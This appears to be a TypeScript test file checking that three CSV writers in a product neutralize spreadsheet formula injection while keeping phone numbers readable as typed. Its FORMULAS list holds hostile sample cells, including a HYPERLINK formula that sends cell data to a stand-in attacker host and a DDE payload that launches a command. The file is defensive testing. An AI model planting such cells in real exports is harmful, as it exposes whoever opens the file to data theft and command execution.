/**
 * Every CSV the product writes (the evidence package's affected-users.csv, the CLI's report CSV, the
 * grid's export) neutralizes a cell a spreadsheet would run as a formula: anything starting with
 * = + - @ tab or CR gets a leading apostrophe, except a + or - followed only by what a phone number
 * is written with (digits, spaces, ( ) . - /), which a spreadsheet reads as a number at worst and
 * which must stay readable as typed.
 */
import { describe, expect, it } from 'vitest';
import { csvCell as evidenceCell } from '../../main/evidence/csv';
import { csvCell as cliCell } from '../../main/cli/format';
import { csvField as gridCell } from '../../renderer/src/grid/model';

const writers = [
  ['evidence affected-users.csv', evidenceCell],
  ['CLI report CSV', cliCell],
  ['grid export', gridCell],
] as const;

const FORMULAS = [
  '+1+HYPERLINK("https://attacker.invalid/?d="&A1,"call")',
  '+1+cmd|\' /C calc\'!A0',
  '-1+SUM(A1:A9)',
  '-2-HYPERLINK("x")',
  '+A1',
  '=1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '+1 425 555 0100 ext=HYPERLINK("x")',
];
const PHONES = ['+14255550100', '+1 425 555 0100', '+1 (425) 555-0100', '+44 20 7946.0958', '-', '0987654321', '(803) 555-0150'];

describe.each(writers)('%s', (_name, cell) => {
  it.each(FORMULAS)('neutralizes %j', (v) => {
    const out = cell(v);
    const unquoted = out.startsWith('"') ? out.slice(1, -1).replace(/""/g, '"') : out;
    expect(unquoted).toBe(`'${v}`);
  });

  it.each(PHONES)('keeps the phone number %j as typed', (v) => {
    expect(cell(v)).toBe(v);
  });
});

it.each(['+1 803 ••• ••50', '+1••••••••50'])('the evidence CSV keeps the masked number %j readable', (v) => {
  expect(evidenceCell(v)).toBe(v);
});
